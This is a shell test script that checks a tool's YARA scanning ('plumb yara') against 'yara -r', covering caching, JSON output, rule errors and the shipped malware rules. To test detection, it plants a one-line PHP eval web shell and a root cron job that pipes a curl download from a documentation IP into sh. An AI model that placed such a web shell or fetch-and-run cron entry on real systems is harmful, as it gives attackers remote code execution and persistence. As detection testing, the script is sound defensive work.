# Oracle test for `plumb yara`: on a generated tree with planted strings
# (ascii, wide, nocase, hex jumps, regex, counts, the math/hash/elf modules,
# private rules, a string with too many matches) the set of (rule, path)
# pairs plumb reports equals `yara -r`'s, cold, warm (from the cache) and
# after one file changed.  Also the plumb.yara/1 JSON shape, paths shown as
# given, rule errors with file:line, the full-rescan age, and the shipped
# rules found by the workstation baseline's malware control.
. "$PLUMB_TOP/tests/e2e/lib.sh"

if ! command -v yara >/dev/null 2>&1 || ! command -v python3 >/dev/null 2>&1
then
	not_ok "yara and python3 are installed (DEB_TEST)"
	done_testing
	exit
fi

RULES="$T_TMP/oracle.yar"
DB="$T_TMP/history.db"
cd "$T_TMP" || exit 1

cat >"$RULES" <<'EOF'
import "math"
import "hash"
import "elf"

rule ascii_needle : plain
{
    meta:
        author = "plumb tests"
        level = 3
        live = true
    strings:
        $a = "plumb-ascii-needle"
    condition:
        $a
}

rule wide_needle
{
    strings:
        $w = "WideNeedle" wide
    condition:
        $w
}

rule ascii_and_wide
{
    strings:
        $x = "BothWays" ascii wide
    condition:
        #x == 2
}

rule nocase_needle
{
    strings:
        $n = "NoCaseNeedle" nocase
    condition:
        $n
}

rule hex_jumps
{
    strings:
        $h = { 50 4C [2-6] 55 4D ?? 42 [0-3] 21 }
    condition:
        $h at 0
}

rule regex_token
{
    strings:
        $r = /tok-[0-9]{4}-[a-f]{3}\b/
    condition:
        $r
}

rule counted : count
{
    strings:
        $c = "count-me"
    condition:
        #c >= 3 and #c in (0..200) >= 2
}

rule high_entropy
{
    condition:
        filesize > 4096 and math.entropy(0, filesize) > 7.9
}

rule known_md5
{
    condition:
        hash.md5(0, filesize) == "d7d3b7d79a0b4a0e9c8b0b5ac6f8d6ab" or
        hash.sha256(0, filesize) == "PLANTED_SHA256"
}

rule elf_file
{
    condition:
        elf.number_of_sections > 0 and (elf.type == elf.ET_EXEC or elf.type == elf.ET_DYN)
}

private rule secret_part
{
    strings:
        $s = "private-needle"
    condition:
        $s
}

rule uses_private
{
    condition:
        secret_part and filesize < 1KB
}

rule too_many
{
    strings:
        $m = "ab"
    condition:
        $m
}
EOF

# The tree: planted files in nested directories, clean files around them.
python3 - tree >"$T_TMP/sha" <<'EOF'
import hashlib, os, random, sys
top = sys.argv[1]
rnd = random.Random(4)
def put(rel, data):
    p = os.path.join(top, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
put("a/ascii.txt", b"hello plumb-ascii-needle world\n")
put("a/b/wide.bin", b"\0\0" + "WideNeedle".encode("utf-16le") + b"\0")
put("a/b/narrow-only.txt", b"WideNeedle but not wide\n")
put("a/both.txt", b"BothWays " + "BothWays".encode("utf-16le"))
put("a/both-once.txt", b"BothWays only once\n")
put("c/nocase.txt", b"xx nOcAsEnEeDlE yy\n")
put("c/hexjump.bin", b"PL\x01\x02\x03UM\xffB\x00!tail")
put("c/hexjump-far.bin", b"PL\x01\x02\x03\x04\x05\x06\x07UM\xffB!")
put("c/d/e/regex.txt", b"id tok-2024-abc done\n")
put("c/d/e/regex-no.txt", b"id tok-2024-abcd done\n")
put("count3.txt", b"count-me count-me " + b"x" * 300 + b" count-me\n")
put("count2.txt", b"count-me count-me\n")
put("random.bin", bytes(rnd.getrandbits(8) for _ in range(65536)))
put("private.txt", b"a private-needle here\n")
put("private-big.txt", b"private-needle" + b"." * 2048)
put("sha.bin", b"the planted sha256 file\n")
put("many.txt", b"ab" * 1200000)
put("dir with space/plain.txt", b"plumb-ascii-needle\n")
put(".hidden/ascii.txt", b"plumb-ascii-needle\n")
put("empty", b"")
for i in range(40):
    put("clean/%02d/file%d.txt" % (i % 7, i), ("clean file %d\n" % i).encode() * (i + 1))
with open("/bin/true", "rb") as f:
    put("bin/true-copy", f.read())
print(hashlib.sha256(b"the planted sha256 file\n").hexdigest())
EOF
SHA=$(cat "$T_TMP/sha")
sed "s/PLANTED_SHA256/$SHA/" "$RULES" >"$RULES.new" && mv "$RULES.new" "$RULES"

# Python may start slowly: one call per document does all it must.
cat >"$T_TMP/summ.py" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
with open(sys.argv[1] + ".pairs", "w") as f:
    for m in d["matches"]:
        f.write("%s %s\n" % (m["rule"], m["path"]))
print("files=%d cached=%d" % (d["stats"]["files"], d["stats"]["cached"]))
PY
# summ FILE: writes FILE.pairs ("rule path" lines, sorted) and sets $files
# and $cached from a plumb.yara/1 document.
summ() {
	eval "$(python3 "$T_TMP/summ.py" "$1")"
	LC_ALL=C sort "$1.pairs" -o "$1.pairs"
}
# oracle WHAT PLUMB_JSON START...: compares the pairs with those of yara -r
# run on each start (yara shows a start's trailing slash doubled: "d//f").
oracle() {
	what=$1
	json=$2
	shift 2
	for start in "$@"; do
		yara -r "$RULES" "$start" 2>/dev/null
	done | sed 's|//|/|' | LC_ALL=C sort >"$T_TMP/want"
	summ "$json"
	if [ -s "$T_TMP/want" ] && cmp -s "$T_TMP/want" "$json.pairs"; then
		ok "$what: $(wc -l <"$json.pairs") (rule, path) pairs equal yara -r's"
	else
		not_ok "$what: (rule, path) pairs equal yara -r's" \
			"$(diff "$T_TMP/want" "$json.pairs")"
	fi
}
sweep() {	# OUT ARGS...: plumb yara --format json into OUT; its exit code
	o=$1
	shift
	"$PLUMB" yara --format json --rules "$RULES" "$@" >"$o" 2>"$o.err"
}

# ---- cold, warm, one file changed ----
sweep cold.json --db "$DB" tree
st=$?
if [ "$st" -eq 2 ]; then ok "a sweep with matches exits 2"; else
	not_ok "a sweep with matches exits 2" "exit $st: $(cat cold.json.err)"; fi
oracle "cold" cold.json tree
if [ "$cached" -eq 0 ]; then ok "cold: nothing from the cache"
else not_ok "cold: nothing from the cache"; fi

sweep warm.json --db "$DB" tree
oracle "warm" warm.json tree
if [ "$cached" -gt 0 ] && [ "$cached" -eq "$files" ]; then
	ok "warm: every verdict ($cached) from the cache"
else
	not_ok "warm: every verdict from the cache" "cached $cached of $files"
fi
if python3 -c '
import json, sys
a, b = (json.load(open(f))["matches"] for f in sys.argv[1:])
sys.exit(a != b)' cold.json warm.json; then
	ok "warm: matches from the cache are identical to fresh ones"
else
	not_ok "warm: matches from the cache are identical to fresh ones"
fi

# One file changes: a matching file loses its needle.
printf 'nothing to see\n' >tree/a/ascii.txt
sweep changed.json --db "$DB" tree
oracle "one file changed" changed.json tree
if [ "$cached" -eq $((files - 1)) ]; then
	ok "one file changed: only that file rescanned"
else
	not_ok "one file changed: only that file rescanned" "cached $cached of $files"
fi
if grep -q 'ascii_needle tree/a/ascii.txt' changed.json.pairs; then
	not_ok "the changed file's old verdict is gone"
else
	ok "the changed file's old verdict is gone"
fi

# A clean file gains a needle with its size and mtime put back: the
# ctime still tells.
f=tree/clean/00/file0.txt
python3 - "$f" <<'EOF'
import os, sys
p = sys.argv[1]
st = os.stat(p)
data = open(p, "rb").read()
new = (b"plumb-ascii-needle" + data)[:len(data)]
open(p, "wb").write(new)
os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))
EOF
sweep ctime.json --db "$DB" tree
oracle "same size and mtime, new ctime" ctime.json tree

# ---- the full-rescan age ----
sweep age.json --db "$DB" --max-age 0 tree
oracle "full rescan" age.json tree
if [ "$cached" -eq 0 ]; then
	ok "--max-age 0 rescans every file"
else
	not_ok "--max-age 0 rescans every file" "cached $cached"
fi
sweep age2.json --db "$DB" --max-age 3600 tree
summ age2.json
if [ "$cached" -eq "$files" ]; then
	ok "a fresh cache within --max-age answers every file"
else
	not_ok "a fresh cache within --max-age answers every file"
fi
sweep nocache.json --no-cache tree
oracle "--no-cache" nocache.json tree

# ---- JSON shape ----
if python3 - cold.json "$(find tree -type f | wc -l)" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1]))
assert set(d) == {"schema", "matches", "stats"}, d.keys()
assert d["schema"] == "plumb.yara/1"
assert d["matches"], "no matches"
for m in d["matches"]:
    assert set(m) == {"rule", "namespace", "tags", "meta", "path", "size",
                      "sha256"}, m.keys()
    assert isinstance(m["tags"], list) and isinstance(m["meta"], dict)
    assert isinstance(m["size"], int) and len(m["sha256"]) == 64
    assert m["namespace"] == "oracle"
a = [m for m in d["matches"] if m["rule"] == "ascii_needle"
     and m["path"] == "tree/a/ascii.txt"][0]
assert a["tags"] == ["plain"] and a["meta"] == {
    "author": "plumb tests", "level": 3, "live": True}, a
assert a["size"] == 31
import hashlib
assert a["sha256"] == hashlib.sha256(
    b"hello plumb-ascii-needle world\n").hexdigest()
s = d["stats"]
assert set(s) == {"files", "bytes", "skipped", "cached", "seconds"}, s.keys()
assert all(isinstance(v, int) for v in s["skipped"].values())
assert isinstance(s["seconds"], (int, float))
assert s["files"] == int(sys.argv[2]), (s["files"], sys.argv[2])
assert not any(m["rule"] == "secret_part" for m in d["matches"])
EOF
then ok "JSON has the plumb.yara/1 shape"; else not_ok "JSON has the plumb.yara/1 shape"; fi

# ---- paths as given ----
sweep abs.json --no-cache "$T_TMP/tree"
oracle "absolute start" abs.json "$T_TMP/tree"
sweep dot.json --no-cache ./tree/a tree/c/
oracle "./ and trailing-slash starts" dot.json ./tree/a tree/c/
sweep one.json --no-cache tree/count3.txt
oracle "a file as the start" one.json tree/count3.txt

# ---- text output is yara's ----
"$PLUMB" yara --no-cache --rules "$RULES" tree >text.out 2>/dev/null
grep -v '^# ' text.out | LC_ALL=C sort >text.pairs
cp nocache.json.pairs text.want
if cmp -s text.pairs text.want && grep -q '^# .* files' text.out; then
	ok "text output: yara's lines and one summary line"
else
	not_ok "text output: yara's lines and one summary line" "$(diff text.want text.pairs)"
fi

# ---- progress: on a terminal only ----
"$PLUMB" yara --no-cache --rules "$RULES" tree >/dev/null 2>progress.err
if [ ! -s progress.err ]; then ok "no progress when stderr is not a terminal"; else
	not_ok "no progress when stderr is not a terminal" "$(cat progress.err)"; fi
if command -v script >/dev/null 2>&1; then
	# script(1) runs the sweep on a pseudo-terminal; the final progress
	# line is always drawn, then erased.
	script -qec "\"$PLUMB\" yara --no-cache --rules \"$RULES\" tree" /dev/null \
		>tty.out 2>&1 </dev/null
	if grep -q "files, .*B/s (0 cached, 0 skipped)" tty.out &&
	   grep -q "$(printf '\r\033\\[K')" tty.out; then
		ok "progress (files, bytes, rate) on a terminal"
	else
		not_ok "progress (files, bytes, rate) on a terminal" "$(cat -v tty.out)"
	fi
else
	ok "# SKIP script(1) is not installed"
fi

# ---- no match exits 0 ----
mkdir clean-only && printf 'nothing\n' >clean-only/f
expect_exit 0 "a sweep without matches exits 0" \
	"$PLUMB" yara --no-cache --rules "$RULES" clean-only

# ---- rule errors ----
printf 'rule good { condition: true }\n\nrule bad {\n  strings:\n    $a = "x"\n  condition:\n    $b\n}\n' >bad.yar
# yara's own message names the line: error: rule "bad" in bad.yar(N): ...
line=$(yara bad.yar bad.yar 2>&1 | sed -n 's/^error: .* in bad\.yar(\([0-9]*\)).*/\1/p')
"$PLUMB" yara --no-cache --rules bad.yar tree >/dev/null 2>err.txt
st=$?
if [ "$st" -eq 1 ] && [ -n "$line" ] && grep -q "bad.yar:$line: rule bad" err.txt; then
	ok "a rule error exits 1 naming file:line"
else
	not_ok "a rule error exits 1 naming file:line" "exit $st: $(cat err.txt)"
fi
# The same with the cache warm: the cache's rules hash changes with the file.
"$PLUMB" yara --db "$DB" --rules bad.yar tree >/dev/null 2>err.txt
st=$?
if [ "$st" -eq 1 ] && grep -q "bad.yar:$line: rule bad" err.txt; then
	ok "a rule error is reported with the cache in use"
else
	not_ok "a rule error is reported with the cache in use" "exit $st: $(cat err.txt)"
fi
printf 'include "other.yar"\nrule x { condition: true }\n' >inc.yar
expect_exit 1 "include directives are refused" \
	"$PLUMB" yara --no-cache --rules inc.yar tree
expect_exit 1 "a missing rules file exits 1" \
	"$PLUMB" yara --no-cache --rules "$T_TMP/nope.yar" tree
expect_exit 1 "a missing path exits 1" \
	"$PLUMB" yara --no-cache --rules "$RULES" "$T_TMP/nope"

# ---- the shipped rules ----
SHIP="$PLUMB_TOP/rules"
for f in "$SHIP"/*.yar; do
	if yara -w "$f" /dev/null >/dev/null 2>&1 && head -12 "$f" | grep -q 'SPDX-License-Identifier: MIT'
	then ok "shipped $(basename "$f") compiles with yara and has a licence header"
	else not_ok "shipped $(basename "$f") compiles with yara and has a licence header"; fi
done
if python3 - "$SHIP" <<'EOF'
import re, sys, glob
bad = []
for f in glob.glob(sys.argv[1] + "/*.yar"):
    text = open(f).read()
    for m in re.finditer(r"\nrule (\w+)[^{]*\{(.*?)\n\}", text, re.S):
        body = m.group(2)
        for key in ("author", "description", "reference", "date"):
            if not re.search(r"\b%s\s*=" % key, body):
                bad.append("%s: %s lacks %s" % (f, m.group(1), key))
if bad:
    print("\n".join(bad))
sys.exit(1 if bad else 0)
EOF
then ok "every shipped rule has author, description, reference and date"
else not_ok "every shipped rule has author, description, reference and date"; fi

mkdir -p planted/var/www/html planted/etc/cron.d planted/tmp planted/dev/shm \
	planted/var/tmp planted/etc/systemd/system
printf '<?php @eval($_POST["c"]); ?>\n' >planted/var/www/html/up.php
printf '*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh\n' >planted/etc/cron.d/updater
printf 'PLUMB-YARA-TEST-MARKER v1\n' >planted/tmp/marker
printf 'harmless\n' >planted/tmp/notes.txt
yara -r "$SHIP"/*.yar planted 2>/dev/null | LC_ALL=C sort >ship.want
"$PLUMB" yara --no-cache --format json --rules "$SHIP" planted >ship.json 2>/dev/null
summ ship.json
if [ "$(wc -l <ship.json.pairs)" -eq 3 ] && cmp -s ship.want ship.json.pairs; then
	ok "shipped rules: plumb and yara find the three planted files"
else
	not_ok "shipped rules: plumb and yara find the three planted files" \
		"$(diff ship.want ship.json.pairs)"
fi

# The workstation baseline's malware control: no rules parameter, so the
# shipped rules are found without being named: from PLUMB_RULES_PATH, and
# from the rules/ beside the build directory of an uninstalled binary.
malware_status() {	# PLUMB_BINARY: "status paths..." of malware.signatures
	"$1" scan --root "$T_TMP/planted" --db "$T_TMP/scan.db" --format json \
		--baseline "$PLUMB_TOP/baselines/smb-linux-workstation/1.0.0.xml" \
		2>/dev/null | python3 -c '
import json, sys
d = json.load(sys.stdin)
r = [r for r in d["results"] if r["id"] == "malware.signatures"][0]
print(r["status"], *sorted(m["path"] for m in r["evidence"].get("matches", [])))'
}
want="fail /etc/cron.d/updater /tmp/marker /var/www/html/up.php"
got=$(PLUMB_RULES_PATH="$SHIP" malware_status "$PLUMB")
if [ "$got" = "$want" ]; then
	ok "workstation baseline: malware.signatures fails on the planted files (PLUMB_RULES_PATH)"
else
	not_ok "workstation baseline: malware.signatures fails on the planted files (PLUMB_RULES_PATH)" "$got"
fi
mkdir -p uninstalled/build && cp "$PLUMB" uninstalled/build/plumb && cp -r "$SHIP" uninstalled/rules
got=$(unset PLUMB_RULES_PATH; malware_status "$T_TMP/uninstalled/build/plumb")
if [ "$got" = "$want" ]; then
	ok "workstation baseline: an uninstalled binary uses the rules/ beside its build directory"
else
	not_ok "workstation baseline: an uninstalled binary uses the rules/ beside its build directory" "$got"
fi

# Under a sanitizer build (make SANITIZE=...) a report on stderr fails.
if cat "$T_TMP"/*.err 2>/dev/null | grep -q -E 'Sanitizer|runtime error'; then
	not_ok "no sanitizer report" "$(cat "$T_TMP"/*.err | grep -E -A5 'Sanitizer|runtime error' | head -40)"
else
	ok "no sanitizer report in any sweep's stderr"
fi

done_testing
